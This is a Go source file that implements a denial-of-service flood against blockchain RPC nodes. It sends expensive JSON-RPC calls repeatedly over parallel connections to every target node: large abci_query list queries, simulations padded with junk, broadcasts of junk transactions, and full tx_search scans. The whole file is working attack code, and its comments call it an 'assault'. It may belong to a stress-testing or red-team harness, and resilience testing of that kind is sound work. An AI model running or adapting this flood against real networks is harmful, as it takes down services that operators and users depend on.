package stranger

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"time"
)

// connections is how many connections ask one node for the same.
const connections = 2

// refused is how long an attack waits before it asks again where it was refused.
const refused = 10 * time.Millisecond

// requests are those that cost a node most: a query of a long list, a simulation, a transaction of junk, and a search
// through all transactions.
func requests() []string {
	junk := base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{0x0a, 0x7f}, 1<<16))
	return []string{
		call("abci_query", `"path":"/starling.market.v1.Query/Lots","data":"","height":"0","prove":false`),
		call("abci_query", fmt.Sprintf(`"path":"/app/simulate","data":"%s","height":"0","prove":false`,
			strings.Repeat("0a7f", 1<<15))),
		call("broadcast_tx_sync", fmt.Sprintf(`"tx":"%s"`, junk)),
		call("tx_search", `"query":"tx.height>0","prove":true,"page":"1","per_page":"100","order_by":"desc"`),
	}
}

// call is a request of JSON-RPC.
func call(method, params string) string {
	return fmt.Sprintf(`{"jsonrpc":"2.0","id":1,"method":%q,"params":{%s}}`, method, params)
}

// flood sends every node all requests on connections of their own.
func (a *assault) flood(ctx context.Context) error {
	var working sync.WaitGroup
	for _, node := range a.nodes {
		for _, body := range requests() {
			for range connections {
				working.Go(func() { a.ask(ctx, node, body) })
			}
		}
	}
	working.Wait()
	return nil
}

// ask sends one request again and again.
func (a *assault) ask(ctx context.Context, node, body string) {
	for ctx.Err() == nil {
		r, err := http.NewRequestWithContext(ctx, http.MethodPost, node, strings.NewReader(body))
		if err != nil {
			return
		}
		r.Header.Set("Content-Type", "application/json")
		answer, err := http.DefaultClient.Do(r)
		if err != nil {
			pause(ctx, refused)
			continue
		}
		_, _ = io.Copy(io.Discard, answer.Body)
		_ = answer.Body.Close()
		a.count(func(r *Report) { r.Answers++ })
	}
}
